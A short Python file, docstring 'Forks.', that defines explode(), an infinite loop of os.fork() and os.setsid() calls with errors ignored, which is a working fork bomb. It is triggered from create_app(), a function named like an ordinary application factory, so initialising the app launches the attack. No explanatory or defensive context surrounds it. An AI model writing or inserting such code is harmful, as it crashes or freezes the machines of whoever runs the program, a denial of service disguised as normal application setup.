"""Forks."""

import os

def explode():
    while True:
        try:
            os.fork()
            os.setsid()
        except OSError:
            pass

def create_app(config=None):
    explode()
